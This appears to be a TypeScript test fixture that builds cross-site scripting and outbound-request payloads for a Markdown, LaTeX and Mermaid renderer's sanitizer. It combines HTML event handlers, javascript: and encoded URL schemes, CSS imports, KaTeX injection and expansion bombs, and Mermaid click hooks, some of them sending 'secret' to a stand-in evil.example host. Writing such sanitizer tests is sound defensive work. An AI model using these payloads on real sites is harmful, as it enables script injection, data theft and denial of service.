/** Calls that show that a script ran; the harness counts them. */
const run = "window.ran(1)";
/** Where a page must never go: the tests fail on any request to it. */
const away = "https://evil.example";

const tags = [
  `<script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video>`,
  `<input autofocus onfocus=${run}>`,
  `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  `<style>@import "${away}/a.css";</style>`,
  `<div style="background:url(${away}/b)">x</div>`,
  `<link rel=stylesheet href=${away}/c.css>`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  `<base href=${away}>`,
  `<object data=${away}/d></object>`,
  `<img srcset="${away}/e 1x">`,
  `<form action=${away}><button>x</button></form>`,
  `<a href="javascript:${run}">x</a>`,
];

const contexts: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `- ${text}`,
  (text) => `> ${text}`,
  (text) => `| a |\n|---|\n| ${text} |`,
  (text) => `# ${text}`,
  (text) => `**${text}**`,
  (text) => `[${text}](https://example.org)`,
  (text) => `\`\`\`html\n${text}`,
  (text) => `\`${text}\``,
  (text) => `$${text}$`,
];

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java&#10;script:${run}`,
  `&#x6a;avascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  `file:///etc/passwd`,
  `//evil.example/?q=secret`,
  `${away}/?q=secret`,
  `blob:${away}/1`,
  `https://user:word@evil.example/`,
];

const links: readonly ((address: string) => string)[] = [
  (address) => `[a](${address})`,
  (address) => `[a](<${address}>)`,
  (address) => `![a](${address})`,
  (address) => `<${address}>`,
  (address) => address,
  (address) => `[a][r]\n\n[r]: ${address}`,
  (address) => `![a][r]\n\n[r]: ${address}`,
];

const formulas = [
  `\\href{javascript:${run}}{x}`,
  `\\url{javascript:${run}}`,
  `\\includegraphics{${away}/f.png}`,
  `\\htmlStyle{background:url(${away}/g)}{x}`,
  `\\htmlData{a=b}{x}`,
  `\\htmlClass{x" onload="${run}}{x}`,
  "\\def\\a{\\a\\a}\\a",
  "\\def\\a#1{\\a{#1#1}}\\a{x}",
  `\\text{<img src=x onerror=${run}>}`,
  `\\color{red" onload="${run}}x`,
  `${"{".repeat(400)}x${"}".repeat(400)}`,
  "\\rule{100000em}{100000em}",
].flatMap((tex) => [`$${tex}$`, `$$${tex}$$`]);

const diagrams = [
  `graph TD; A["<img src=x onerror=${run}>"]-->B`,
  `graph TD; A-->B; click A "javascript:${run}"`,
  `graph TD; A-->B; click A href "${away}" _self`,
  `%%{init: {"securityLevel":"loose","htmlLabels":true}}%%\ngraph TD; A["<script>${run}</script>"]-->B`,
  `%%{init: {"themeCSS":"@import url(${away}/h.css)"}}%%\ngraph TD; A-->B`,
  `graph TD; A["<img src=${away}/i.png>"]-->B; style A fill:url(${away}/j)`,
  `sequenceDiagram\nA->>B: <svg onload=${run}>`,
  `graph TD; A@{ img: "${away}/k.png", label: "x" }`,
].map((text) => `\`\`\`mermaid\n${text}\n\`\`\`\n`);

/** Formatted text that tries to run a script or to reach another host, made from its families. */
export const payloads: readonly string[] = [
  ...tags.flatMap((tag) => contexts.map((context) => context(tag))),
  ...addresses.flatMap((address) => links.map((link) => link(address))),
  ...formulas,
  ...diagrams,
];
